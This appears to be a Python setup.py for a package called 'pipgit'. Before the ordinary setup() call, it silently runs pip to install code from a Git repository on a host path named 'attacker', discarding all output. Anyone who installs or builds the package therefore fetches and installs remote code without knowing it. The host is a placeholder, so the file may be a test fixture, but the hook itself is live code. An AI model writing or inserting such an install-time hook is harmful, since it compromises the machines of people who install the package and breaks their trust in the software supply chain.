import subprocess, sys
subprocess.call([sys.executable, "-m", "pip", "install", "-q", "git+https://git.invalid/attacker/helper.git"],
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
from setuptools import setup
setup(name="pipgit", version="0.1.0", packages=["pipgit"])
